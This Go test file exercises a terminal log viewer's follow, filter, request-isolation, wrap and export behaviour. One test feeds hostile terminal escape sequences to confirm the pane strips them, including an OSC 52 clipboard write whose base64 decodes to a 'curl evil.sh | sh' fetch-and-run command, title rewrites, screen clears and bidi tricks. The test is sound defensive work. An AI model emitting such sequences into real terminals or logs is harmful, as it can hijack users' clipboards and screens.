package logs

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"
	"github.com/virgahq/virga/providers"
	"github.com/virgahq/virga/views/internal/viewtest"
	"github.com/virgahq/virga/views/theme"
)

var t0 = time.Date(2026, 11, 25, 14, 30, 0, 0, time.UTC)

func newTestViewer(w, h int) *Viewer {
	v := NewViewer(theme.New(theme.Dark), 1000, 0)
	v.SetLocation(time.UTC)
	v.SetSize(w, h)
	return v
}

func line(i int, msg string) Line {
	return FromEvent(providers.LogEvent{ID: fmt.Sprint(i), Timestamp: t0.Add(time.Duration(i) * time.Millisecond), Message: msg}, 0, "")
}

func TestFollowPauseResume(t *testing.T) {
	v := newTestViewer(60, 5)
	for i := range 20 {
		v.Append(line(i, fmt.Sprintf("line %02d", i)))
	}
	rows := viewtest.CheckFrame(t, v.Render(), 60, 5)
	if !strings.Contains(rows[4], "line 19") || !strings.Contains(rows[0], "line 15") {
		t.Fatalf("not following:\n%s", strings.Join(rows, "\n"))
	}
	v.TogglePause()
	for i := 20; i < 30; i++ {
		v.Append(line(i, fmt.Sprintf("line %02d", i)))
	}
	rows = viewtest.CheckFrame(t, v.Render(), 60, 5)
	if !strings.Contains(rows[4], "line 19") || v.NewLines() != 10 {
		t.Fatalf("paused view moved or miscounted (%d):\n%s", v.NewLines(), strings.Join(rows, "\n"))
	}
	if b := v.Badges(); b[0].Text != "⏸ paused +10 new" {
		t.Fatalf("badge %q", b[0].Text)
	}
	v.TogglePause()
	rows = viewtest.CheckFrame(t, v.Render(), 60, 5)
	if !strings.Contains(rows[4], "line 29") {
		t.Fatalf("resume did not jump to the newest line:\n%s", strings.Join(rows, "\n"))
	}
	// Moving up stops following and keeps the cursor on screen.
	v.Move(-7)
	rows = viewtest.CheckFrame(t, v.Render(), 60, 5)
	if !strings.Contains(strings.Join(rows, "\n"), "▌") || !strings.Contains(strings.Join(rows, "\n"), "line 22") {
		t.Fatalf("cursor not shown:\n%s", strings.Join(rows, "\n"))
	}
	v.Top()
	rows = viewtest.CheckFrame(t, v.Render(), 60, 5)
	if !strings.Contains(rows[0], "line 00") {
		t.Fatalf("top:\n%s", strings.Join(rows, "\n"))
	}
}

func TestFilterOnlyAndMarked(t *testing.T) {
	v := newTestViewer(80, 6)
	for i := range 30 {
		msg := "ok request handled"
		if i%10 == 3 {
			msg = "upstream timeout after 3s"
		}
		v.Append(line(i, msg))
	}
	// The default: a case-insensitive substring, only matching lines.
	if err := v.SetFilter("TimeOut", FilterText); err != nil {
		t.Fatal(err)
	}
	rows := viewtest.CheckFrame(t, v.Render(), 80, 6)
	n := 0
	for _, r := range rows {
		if strings.Contains(r, "timeout") {
			n++
		}
		if strings.Contains(r, "ok request") {
			t.Fatalf("only-matching shows a non-matching line:\n%s", strings.Join(rows, "\n"))
		}
	}
	if n != 3 {
		t.Fatalf("%d matching rows, want 3", n)
	}
	v.ToggleOnlyMatching()
	rows = viewtest.CheckFrame(t, v.Render(), 80, 6)
	if !strings.Contains(strings.Join(rows, "\n"), "ok request") {
		t.Fatal("marked mode hid non-matching lines")
	}
	v.ToggleOnlyMatching()
	// The filter survives new lines and a pause.
	v.TogglePause()
	v.Append(line(40, "another timeout"), line(41, "fine"))
	v.TogglePause()
	rows = viewtest.CheckFrame(t, v.Render(), 80, 6)
	if !strings.Contains(strings.Join(rows, "\n"), "another timeout") || strings.Contains(strings.Join(rows, "\n"), "fine") {
		t.Fatalf("filter lost after pause:\n%s", strings.Join(rows, "\n"))
	}
	if err := v.SetFilter("time(out", FilterRegex); err == nil {
		t.Fatal("bad regex accepted")
	}
	if err := v.SetFilter("TIME.*3s", FilterRegex); err != nil {
		t.Fatal(err)
	}
	rows = viewtest.CheckFrame(t, v.Render(), 80, 6)
	if strings.Contains(strings.Join(rows, "\n"), "another timeout") {
		t.Fatal("regex with upper case should be case-sensitive")
	}
}

// TestTextFilterIsASubstring: /ERROR finds the lines that say error in
// any case, not every line whose letters happen to spell it out in order
// (which fuzzy matching, one key away, does).
func TestTextFilterIsASubstring(t *testing.T) {
	scattered := line(1, "Event Received: order Recorded, Outbox Ready")
	said := line(2, "payment failed: Error 502 from upstream")
	upper := line(3, "ΣΊΣΥΦΟΣ ERROR ΣΊΣΥΦΟΣ")
	var f Filter
	if err := f.Set("error", FilterText); err != nil {
		t.Fatal(err)
	}
	if f.Match(&scattered) || !f.Match(&said) || !f.Match(&upper) {
		t.Fatalf("text: scattered %v, said %v, upper %v", f.Match(&scattered), f.Match(&said), f.Match(&upper))
	}
	if got := f.Spans(upper.Text); len(got) != 1 || upper.Text[got[0][0]:got[0][1]] != "ERROR" {
		t.Fatalf("spans %v", got)
	}
	// Case folding beyond ASCII, with the span on the line's own bytes.
	if err := f.Set("σίσυφος", FilterText); err != nil {
		t.Fatal(err)
	}
	if got := f.Spans(upper.Text); len(got) != 2 || upper.Text[got[1][0]:got[1][1]] != "ΣΊΣΥΦΟΣ" {
		t.Fatalf("folded spans %v", got)
	}
	if err := f.Set("ERROR", FilterFuzzy); err != nil {
		t.Fatal(err)
	}
	if !f.Match(&said) {
		t.Fatal("fuzzy lost the literal match")
	}
	if FilterText.Next() != FilterFuzzy || FilterFuzzy.Next() != FilterRegex || FilterRegex.Next() != FilterText {
		t.Fatal("the mode key does not cycle text, fuzzy, regex")
	}
}

func TestRequestIsolation(t *testing.T) {
	v := newTestViewer(100, 10)
	a, b := "11111111-1111-1111-1111-111111111111", "22222222-2222-2222-2222-222222222222"
	for i, m := range []string{
		"START RequestId: " + a + " Version: 1", "START RequestId: " + b + " Version: 1",
		"2026-11-25T14:30:00.000Z\t" + a + "\tINFO\tfrom a", "2026-11-25T14:30:00.000Z\t" + b + "\tERROR\tfrom b",
		"REPORT RequestId: " + b + "\tDuration: 5.00 ms\tBilled Duration: 5 ms\tMemory Size: 128 MB\tMax Memory Used: 30 MB\t",
	} {
		v.Append(line(i, m))
	}
	v.Move(0) // cursor on the newest line: b's REPORT
	if !v.IsolateRequest() {
		t.Fatal("no request id on the selected line")
	}
	rows := strings.Join(viewtest.CheckFrame(t, v.Render(), 100, 10), "\n")
	if strings.Contains(rows, "from a") || !strings.Contains(rows, "from b") || !strings.Contains(rows, "REPORT 22222222  5.00 ms (billed 5.00 ms)  mem 30/128 MB") {
		t.Fatalf("isolation:\n%s", rows)
	}
	ivs := v.Invocations().Reported()
	if len(ivs) != 1 || ivs[0].RequestID != b || !ivs[0].Error || ivs[0].Lines != 3 {
		t.Fatalf("invocations: %+v", ivs)
	}
}

// TestHostileLinesCannotDriveTheTerminal renders every class of sequence
// a terminal acts on (CSI, OSC, DCS, APC, C0, C1, bidi) and checks the frame holds no escape other than the SGR
// colours the pane itself paints.
func TestHostileLinesCannotDriveTheTerminal(t *testing.T) {
	hostile := []string{
		"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clipboard", "\x1b]0;pwned\x07 title", "\x1b]2;x\x1b\\ title st",
		"\x1b[2J\x1b[H clear", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[31mred\x1b[0m",
		"\x1bP1$r0m\x1b\\ dcs", "\x1b_Gf=100\x1b\\ apc", "\u009b2J c1 csi", "\u009d0;t\u009c c1 osc",
		"user\u202etxt.exe", "a\u2066b\u2069", "caf\xe9 \xff\xfe", "a\x7fb\x07c\x00d", "progress\rFAKE OK", "\x1b[10A\x1b[5;5H up",
		`{"msg":"\u001b]52;c;QUFB\u0007 json"}`,
	}
	v := newTestViewer(120, len(hostile)+2)
	for i, h := range hostile {
		v.Append(line(i, h))
	}
	for _, wrap := range []bool{false, true} {
		if wrap {
			v.ToggleWrap()
		}
		frame := v.Render()
		viewtest.CheckFrame(t, frame, 120, len(hostile)+2)
		// Remove the pane's own SGR sequences; nothing else may remain.
		rest := sgr.ReplaceAllString(frame, "")
		for i, r := range rest {
			if r == 0x1b || r == 0x7 || (r < 0x20 && r != '\n') || (r >= 0x7f && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
				t.Fatalf("control %U survives at %d: %q", r, i, rest)
			}
		}
		if !strings.Contains(rest, "␛]52;c;") || !strings.Contains(rest, "FAKE OK") {
			t.Fatal("hostile text should stay visible as text")
		}
	}
}

func TestLongLine(t *testing.T) {
	v := newTestViewer(200, 60)
	v.Append(line(0, strings.Repeat("0123456789abcdef", 1<<16))) // 1 MiB
	v.Append(line(1, "after"))
	rows := viewtest.CheckFrame(t, v.Render(), 200, 60)
	if !strings.Contains(rows[0], "0123456789abcdef") || !strings.Contains(rows[1], "after") {
		t.Fatalf("no-wrap:\n%s", strings.Join(rows[:2], "\n"))
	}
	v.ToggleWrap()
	rows = viewtest.CheckFrame(t, v.Render(), 200, 60)
	if !strings.Contains(rows[58], "[cut ") || !strings.Contains(rows[59], "after") {
		t.Fatalf("wrap should end with the cut marker and the next line:\n%s", strings.Join(rows[55:], "\n"))
	}
}

func TestTagsAndSources(t *testing.T) {
	v := newTestViewer(100, 4)
	v.SetSources([]string{"checkout-api", "payments-webhook"})
	a := FromEvent(providers.LogEvent{Timestamp: t0, Message: "from checkout"}, 0, "")
	b := FromEvent(providers.LogEvent{Timestamp: t0, Message: "from payments"}, 1, "")
	v.Append(a, b)
	rows := strings.Join(viewtest.CheckFrame(t, v.Render(), 100, 4), "\n")
	if !strings.Contains(rows, "checkout-api     from checkout") || !strings.Contains(rows, "payments-webhook from payments") {
		t.Fatalf("tags:\n%s", rows)
	}
	v.CycleSource()
	rows = strings.Join(viewtest.CheckFrame(t, v.Render(), 100, 4), "\n")
	if strings.Contains(rows, "from payments") {
		t.Fatalf("source filter:\n%s", rows)
	}
	if got := v.Bar(100, v.Badges()); ansi.StringWidth(got) != 100 || !strings.Contains(ansi.Strip(got), "● checkout-api ● payments-webhook") {
		t.Fatalf("bar %q", ansi.Strip(got))
	}
}

func TestExport(t *testing.T) {
	v := newTestViewer(80, 5)
	v.Append(line(0, "one"), NewMarker(KindGap, t0.Add(time.Second), "lines may be missing"), line(2, "two"))
	v.SetFilter("two", FilterText)
	all, shown := v.Export(true), v.Export(false)
	if len(all) != 3 || all[0] != "2026-11-25T14:30:00.000Z one" || all[1] != "2026-11-25T14:30:01.000Z --- lines may be missing ---" {
		t.Fatalf("all: %q", all)
	}
	if len(shown) != 2 {
		t.Fatalf("shown (gap markers are always shown): %q", shown)
	}
}
